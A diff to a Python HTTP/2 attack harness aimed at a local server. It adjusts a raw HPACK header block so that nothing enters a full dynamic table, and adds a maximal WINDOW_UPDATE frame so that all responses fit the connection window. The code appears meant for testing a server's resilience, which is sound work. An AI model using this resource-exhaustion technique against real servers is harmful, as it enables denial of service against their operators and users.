@@ -24,9 +24,9 @@ FRAME_BYTES = 16384
 ENTRY_BYTES = 4096
 VALUE = b"v" * (ENTRY_BYTES - 32 - 1)
 INDEXED = b"\xbe"
-# :method POST, :scheme http, :path /, :authority a
-HEAD = b"\x83\x86\x84\x41\x01a"
-DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
+# :method POST, :scheme http, :path /, :authority a; nothing of it goes into the table, which is full.
+HEAD = b"\x83\x86\x84\x01\x01a"
+DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 # Requests that wait for their answers: a listener allows 100, and more would end the connection.
 STREAMS_MAX = 50
@@ -106,7 +106,10 @@ class Peer:
 def attack(port: int, shape: str, frames_max: int, deadline: float) -> dict:
     """One connection, as long as it lasts and no further than the two bounds."""
     connection = socket.create_connection(("127.0.0.1", port), timeout=5)
-    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
+    connection.sendall(
+        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)
+        # All answers together fit into the connection's window.
+        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
     peer = Peer()
     sent = wire = decoded = streams = 0
     for bytes_, worth in frames(shape):
